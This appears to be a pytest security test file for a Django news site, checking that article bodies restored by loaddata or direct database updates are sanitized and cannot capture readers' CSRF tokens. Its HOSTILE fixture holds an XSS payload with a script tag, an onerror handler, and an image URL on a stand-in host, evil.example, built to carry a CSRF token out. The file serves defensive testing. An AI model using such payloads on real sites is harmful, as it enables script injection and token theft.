"""Article bodies saved past ``Article.save()`` are sanitized anyway (finding 6).

``loaddata`` and restores save with ``raw=True``: ``Article.save()`` (and its sanitizing)
does not run, but the ``pre_save`` handler of ``news.signals`` does; a body written past
every signal (``QuerySet.update``, an SQL restore) is cleaned again when it is rendered
(the ``rich_text`` filter). A hole marker forged in stored content is not a hole: markers
carry a token derived from ``SECRET_KEY``, so no reader's CSRF token is put into it.
"""

import json
import re

import pytest
from django.core import serializers
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from news.models import Article
from tests.security.conftest import published_article

READER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36"
HOSTILE = (
    "<p>Tin thử <script>alert('xss')</script></p>"
    '<p><img src="https://evil.example/x.png?t=<!--hole:csrf-->" alt="<!--hole:csrf-->"'
    ' onerror="alert(1)"></p><!--hole:csrf--><p title="<!--hole:csrf-->">cuối</p>'
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def article():
    return published_article("Bài khôi phục từ bản sao", "<p>Nội dung sạch.</p>")


def article_body(html):
    return re.search(r'<div class="article-body">(.*?)</div>', html, re.S).group(1)


def csrf_tokens(client, html):
    tokens = set(re.findall(r'name="csrfmiddlewaretoken" value="([^"]*)"', html))
    tokens.add(client.cookies["csrftoken"].value)
    return {token for token in tokens if token}


def assert_served_clean(url):
    for _ in range(2):  # rendered for the cache, then answered from it
        client = Client(HTTP_USER_AGENT=READER)
        html = client.get(url).content.decode()
        body = article_body(html)
        assert "<script" not in body and "alert('xss')" not in body
        assert "onerror" not in body
        tokens = csrf_tokens(client, html)
        assert tokens  # the login box did get this reader's token
        for token in tokens:
            assert token not in body, "a forged hole marker received the CSRF token"


def test_loaddata_of_a_hostile_body_is_sanitized_when_saved_and_served(article, tmp_path):
    fixture = json.loads(serializers.serialize("json", [article]))
    fixture[0]["fields"]["body"] = HOSTILE
    path = tmp_path / "restore.json"
    path.write_text(json.dumps(fixture), encoding="utf-8")

    call_command("loaddata", str(path), verbosity=0)

    article.refresh_from_db()
    assert "<script" not in article.body and "onerror" not in article.body
    assert "alert('xss')" not in article.search_text
    assert "Tin thử" in article.body
    assert_served_clean(article.get_absolute_url())


def test_a_body_written_past_every_signal_is_cleaned_when_rendered(article):
    Article.objects.filter(pk=article.pk).update(body=HOSTILE)  # as an SQL restore would
    assert_served_clean(article.get_absolute_url())
    download = Client(HTTP_USER_AGENT=READER).get(reverse("news:download", args=[article.slug]))
    assert download.status_code == 200
    assert b"<script>alert" not in download.content and b"onerror" not in download.content
